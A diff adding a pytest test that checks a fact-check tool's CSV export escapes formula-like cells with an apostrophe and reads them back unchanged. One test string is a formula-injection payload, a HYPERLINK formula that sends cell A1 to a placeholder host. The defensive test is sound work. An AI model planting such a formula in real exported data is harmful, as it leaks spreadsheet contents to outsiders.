@@ -170,6 +170,36 @@ def test_a_spreadsheets_csv_header_is_read_whatever_its_case(tmp_path: Path) -> 
         formats.read(path, "csv")
 
 
+def test_a_cell_a_spreadsheet_would_run_goes_out_as_text_and_comes_back(tmp_path: Path) -> None:
+    """A feed's text is data: exported, a cell that starts like a formula is written after
+    an apostrophe (spreadsheets then show it as text), and read back as it was."""
+    texts = ['=HYPERLINK("http://x.example/?"&A1,"click") said 40 jobs.',
+             "+7,000 released, the mayor said.", "-5 degrees in 30 towns.",
+             "@cityhall: 300 officers hired.", "'=1+1 is the claim's own text.",
+             "'90s crime fell by 40%."]
+    source = tmp_path / "in.json"
+    source.write_text(json.dumps([
+        {"@context": "https://schema.org", "@type": "ClaimReview", "claimReviewed": t,
+         "author": {"@type": "Organization", "name": "Desk"},
+         "reviewRating": {"@type": "Rating", "ratingValue": -1, "worstRating": -2}}
+        for t in texts]), encoding="utf-8")
+    db, out = str(tmp_path / "db"), tmp_path / "out.csv"
+    _run("import", str(source), "-d", db)
+    _run("export", "--format", "csv", "-o", str(out), "-d", db)
+    import csv
+    with out.open(encoding="utf-8", newline="") as f:
+        cells = {r["text"]: r for r in csv.DictReader(f)}
+    assert set(cells) == {"'" + t if t[0] in "=+-@'" and t[1] != "9" else t for t in texts}
+    assert all(not t.startswith(("=", "+", "-", "@")) for t in cells)
+    # A number stays one.
+    assert {(r["rating_value"], r["worst_rating"]) for r in cells.values()} == {("-1", "-2")}
+    claims = {c["text"] for c in formats.read(out).doc["claims"]}
+    assert claims == set(texts)
+    # A spreadsheet user's own apostrophe before a formula is read as the spreadsheet reads it.
+    source.write_text("text,publisher\n'=2+2 is four,Desk\n", encoding="utf-8")
+    assert formats.read(source).doc["claims"][0]["text"] == "=2+2 is four"
+
+
 def _run(*args: str) -> str:
     result = CliRunner().invoke(cli, list(args))
     assert result.exit_code == 0, result.output
